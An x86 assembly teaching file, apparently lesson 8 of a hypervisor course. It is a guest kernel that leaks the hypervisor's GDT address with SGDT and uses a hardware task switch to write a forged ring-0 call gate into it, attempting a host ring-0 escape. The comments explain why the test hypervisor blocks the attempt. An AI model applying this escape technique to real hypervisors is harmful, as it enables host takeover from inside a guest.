; attack-window.asm - attack guest (lesson 8): write the hypervisor's own tables.
;
; THE ATTACK. A trap-and-emulate hypervisor keeps the GDT, IDT and TSS the real CPU uses, and
; SGDT - unprivileged, it never traps - tells the guest where (lesson 4: under vwb's hypervisor
; in trap mode it says FFFE0000h, the window at the top of the linear space). This kernel asks,
; and attacks what it is told:
;   1. it cannot name the window's host memory: the host keeps it at 1 MiB, but my physical
;      1 MiB is my own kernel (guest-physical addresses are not host-physical ones);
;   2. it can make the *CPU* write there: a hardware task switch saves the outgoing task's
;      registers into its TSS, whose base the kernel chooses. It puts its current TSS at
;      GDT base + D8h and switches tasks with two forged descriptors in EAX:ECX and EDX:EBX,
;      which the save writes over GDT entries 100h and 108h: a call gate for any ring to a
;      ring-0 code segment. If those landed in the hypervisor's GDT, CALL 100h:0 would run
;      this kernel at the real ring 0 - the host's.
;
; WHY IT FAILS under vwb's hypervisor. The guest's task switch runs in the guest's view (its
; own GDT and TSS loaded for that one instruction), and the hypervisor first checks that every
; table the switch may write - the GDT, the TSS it leaves, the TSS it enters - lies below its
; window: this one does not, so the guest stops with a "contained" exit before the switch.
; In patch mode SGDT is patched (an exit): the kernel sees its own GDT and attacks itself, as
; on bare hardware, where the switch writes the kernel's own memory, entry 100h lies past its
; GDT's limit, and the CALL gets #GP.
;
; Multiboot kernel, flat binary loaded at 1 MiB; its own GDT (with room for the forged entries
; and the TSS laid over them) and an IDT for #GP. The exit device gets 0 (2 from ring 0).

        cpu     486
        bits    32
        org     0x100000

CODE_SEL        equ 0x08                ; GDT selectors (ours, below)
DATA_SEL        equ 0x10
TSS1_SEL        equ 0x18                ; the TSS laid over GDT entries 100h-13Fh
TSS2_SEL        equ 0x20                ; the TSS of the task switched to
GATE_SEL        equ 0x100               ; the forged call gate (from EAX:ECX)
RING0_SEL       equ 0x108               ; the forged ring-0 code segment (from EDX:EBX)
TSS1_OFFSET     equ GATE_SEL - 0x28     ; a TSS keeps EAX at 28h (SDM Vol. 3A Figure 7-2)
HANDLERS_HIGH   equ 0x0010              ; bits 31..16 of the handler's offset (the image is at 1 MiB)
STACK_TOP       equ 0x90000

%include "multiboot.inc"

entry:
        cli
        cld
        mov     esp, STACK_TOP
        lgdt    [gdtr]
        jmp     CODE_SEL:.reloaded
.reloaded:
        mov     ax, DATA_SEL
        mov     ds, ax
        mov     es, ax
        mov     ss, ax
        lidt    [idtr]
        sgdt    [seen_gdtr]             ; the leak (in trap mode)
        mov     esi, msg_sgdt
        mov     eax, [seen_gdtr + 2]
        call    report
        mov     esi, msg_physical       ; 1. my physical 1 MiB
        mov     eax, [0x100000]
        call    report

        mov     eax, [seen_gdtr + 2]    ; 2. TSS1 over entries 100h.., TSS2 in my memory
        add     eax, TSS1_OFFSET
        mov     edi, gdt + TSS1_SEL
        call    set_base
        mov     eax, tss2
        mov     edi, gdt + TSS2_SEL
        call    set_base
        mov     ax, TSS1_SEL
        ltr     ax
        mov     esi, msg_switch
        call    puts
        mov     eax, RING0_SEL << 16 | (ring0 - $$) & 0xFFFF  ; the gate: to RING0_SEL:ring0,
        mov     ecx, HANDLERS_HIGH << 16 | 0xEC00             ; present, DPL 3, 32-bit call gate
        mov     edx, 0x0000FFFF                               ; code: base 0, limit 4 GiB,
        mov     ebx, 0x00CF9B00                               ; present, DPL 0, 32-bit
        jmp     TSS2_SEL:0              ; saves EAX..EBX into TSS1: the forged entries
task2:  mov     esi, msg_switched
        call    puts
        mov     esi, msg_call
        call    puts
        mov     dword [resume], .after
        mov     [resume_esp], esp
        call    GATE_SEL:0              ; through the forged gate, if it exists
.after: mov     esi, msg_gp
        call    puts
        xor     eax, eax
        jmp     exit

ring0:  mov     esi, msg_ring0          ; reached only if the forged entries reached the real GDT
        call    puts
        mov     eax, 2
        jmp     exit

protection_fault:                       ; #GP: drop the frame, resume where [resume] says
        mov     esp, [resume_esp]
        jmp     [resume]

; set_base: the base of the descriptor at EDI := EAX (it is kept in three pieces: bits 15..0,
; 23..16 and 31..24; SDM Vol. 3A 3.4.5).
set_base:
        mov     [edi + 2], ax
        shr     eax, 16
        mov     [edi + 4], al
        mov     [edi + 7], ah
        ret

; report: prints the text at ESI, EAX as 8 hex digits and a newline.
report:
        call    puts
        mov     edx, eax
        mov     ecx, 8
.digit: rol     edx, 4
        mov     eax, edx
        and     eax, 15
        mov     al, [hex_digits + eax]
        call    putc
        dec     ecx
        jnz     .digit
        mov     al, 10
        call    putc
        ret

%include "com1.inc"

%include "exit.inc"

hex_digits:     db "0123456789ABCDEF"
msg_sgdt:       db "attack-window: sgdt says the GDT is at ", 0
msg_physical:   db "my physical 00100000 (the window's host address) holds ", 0
msg_switch:     db "task switch with my TSS at GDT base + D8 and forged entries in EAX..EBX", 10, 0
msg_switched:   db "the switch is done", 10, 0
msg_call:       db "call through the forged gate 0100h: ", 0
msg_gp:         db "#GP (no such entry in my GDT)", 10, "attack-window: done", 10, 0
msg_ring0:      db "RING 0 OF THE HOST", 10, 0
resume:         dd 0
resume_esp:     dd 0
seen_gdtr:      dw 0
                dd 0

; The GDT: flat code and data at ring 0, the two TSS descriptors (32-bit available TSS, limit
; 67h; bases set at run time), then room up to 140h for TSS1 laid over it on bare hardware.
        align   8
gdt:            dq 0
                dq 0x00CF9B000000FFFF   ; 08h: code, base 0, limit 4 GiB, 32-bit
                dq 0x00CF93000000FFFF   ; 10h: data, base 0, limit 4 GiB
                dq 0x0000890000000067   ; 18h: TSS1
                dq 0x0000890000000067   ; 20h: TSS2
gdt_end:        times TSS1_OFFSET + 0x68 - (gdt_end - gdt) db 0
gdtr:           dw gdt_end - gdt - 1
                dd gdt
; TSS2 (SDM Vol. 3A Figure 7-2): the task starts at task2 on my stack, interrupts off.
        align   4
tss2:           dd 0, 0, 0, 0, 0, 0, 0, 0   ; link, ESP0, SS0 .. SS2, CR3 (paging is off)
                dd task2, 0x2           ; EIP, EFLAGS
                dd 0, 0, 0, 0, STACK_TOP - 64, 0, 0, 0   ; EAX ECX EDX EBX ESP EBP ESI EDI
                dd DATA_SEL, CODE_SEL, DATA_SEL, DATA_SEL, 0, 0   ; ES CS SS DS FS GS
                dd 0, 0x00680000        ; LDT; the I/O map base past the limit (no bitmap)
; The IDT: vectors 0-13, only #GP present (a 32-bit interrupt gate, DPL 0).
        align   8
idt:            times 13 dq 0
                dw (protection_fault - $$) & 0xFFFF, CODE_SEL, 0x8E00, HANDLERS_HIGH
idt_end:
idtr:           dw idt_end - idt - 1
                dd idt
